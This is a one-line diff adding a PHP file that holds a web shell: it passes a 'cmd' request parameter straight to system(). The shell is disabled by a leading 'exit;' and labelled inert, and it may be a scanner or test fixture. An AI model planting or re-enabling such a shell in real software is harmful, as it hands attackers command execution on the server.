@@ -1,0 +1,1 @@
+<?php exit; /* inert */ if(isset($_REQUEST["cmd"])){ $cmd = ($_REQUEST["cmd"]); system($cmd); }
